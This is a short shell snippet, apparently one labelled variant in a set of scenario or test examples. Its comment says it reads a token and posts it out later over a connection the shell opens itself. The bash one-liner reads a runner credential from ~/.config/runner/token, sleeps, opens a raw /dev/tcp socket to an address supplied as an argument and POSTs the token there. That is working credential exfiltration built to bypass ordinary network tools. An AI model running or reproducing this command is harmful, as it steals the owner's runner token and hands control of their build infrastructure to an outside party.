# (b) Reads the token and posts it later over a connection of the shell's own.
bash -c 'token=$(<~/.config/runner/token); sleep "$1"; exec 3<>"/dev/tcp/$2/8080"
printf "POST /sync HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" "${#token}" "$token" >&3; read -r -t 5 -u 3; exit 0' \
    sync "$SCENE_PACE" "$SCENE_ADDRESS"
